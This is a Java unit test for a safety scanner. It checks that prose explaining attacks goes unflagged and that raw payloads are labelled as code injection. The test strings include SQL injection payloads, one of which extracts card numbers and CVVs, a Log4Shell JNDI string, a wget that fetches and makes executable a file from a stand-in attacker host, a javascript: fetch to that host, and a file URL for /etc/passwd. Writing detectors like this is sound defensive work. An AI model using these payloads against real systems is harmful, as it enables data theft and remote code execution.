package io.gatewaystack.transformabl.safety;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Code that is shown, and code that would run. */
class CodeTalkTest {
  private static final SafetyScanner SCANNER = SafetyScanner.standard();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Tutorial: SQL injection explained. The attacker enters ' OR '1'='1 into the login form.",
        "CVE-2021-44228: attackers send ${jndi:ldap://attacker/a} in the User-Agent header.",
        "UNION SELECT is covered in lecture 8; homework: normal forms.",
        "<a href=\"javascript:void(0)\">Menu</a>"
      })
  void leavesCodeThatIsOnlyShown(String text) {
    assertThat(SCANNER.scan(text)).isEqualTo(SafetyLabels.NONE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR '1'='1",
        "sqli ' OR '1'='1",
        "x' UNION SELECT card_number, cvv FROM payments --",
        "`wget http://evil.example/m -O /tmp/m; chmod +x /tmp/m`",
        "<a href=\"javascript:fetch('//evil.example')\">x</a>",
        "file:///etc/passwd"
      })
  void labelsCodeThatWouldRun(String text) {
    assertThat(SCANNER.scan(text).names()).contains("code_injection");
  }
}
